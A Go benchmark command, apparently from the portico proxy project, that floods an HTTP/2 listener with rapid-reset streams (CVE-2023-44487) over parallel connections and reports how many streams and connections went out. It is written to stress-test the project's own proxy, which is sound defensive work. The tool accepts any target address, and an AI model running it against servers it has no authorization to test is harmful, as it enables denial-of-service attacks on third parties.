// Command rapidreset floods an HTTP/2 listener with reset streams
// (CVE-2023-44487, package h2flood) for a while, on c connections at once,
// opening a new one whenever the server closes one, and prints how many
// streams went out and how many connections the server closed.
// bench/rapidreset.sh runs it against `portico run` and measures the
// proxy's CPU and access log lines.
//
//	go run ./bench/rapidreset -addr 127.0.0.1:8080 [-host www.example.com] [-path /] [-d 10s] [-c 2]
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"sync"
	"time"

	"github.com/portico-gw/portico/internal/proxy/h2flood"
)

func main() {
	addr := flag.String("addr", "", "the listener, host:port (HTTP/2 prior knowledge)")
	host := flag.String("host", "www.example.com", ":authority of the streams")
	path := flag.String("path", "/", ":path of the streams")
	d := flag.Duration("d", 10*time.Second, "how long to flood")
	conns := flag.Int("c", 2, "connections flooding at once")
	flag.Parse()
	if *addr == "" {
		log.Fatal("-addr is required")
	}
	end := time.Now().Add(*d)
	var mu sync.Mutex
	var sent, opened, closed int
	var wg sync.WaitGroup
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				c, err := net.Dial("tcp", *addr)
				if err != nil {
					log.Fatal(err)
				}
				c.SetDeadline(end)
				r := h2flood.Flood(c, *host, *path, 1<<30)
				c.Close()
				mu.Lock()
				sent += r.Sent
				opened++
				if r.Closed {
					closed++
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	fmt.Printf("streams %d connections %d closed_by_server %d\n", sent, opened, closed)
}
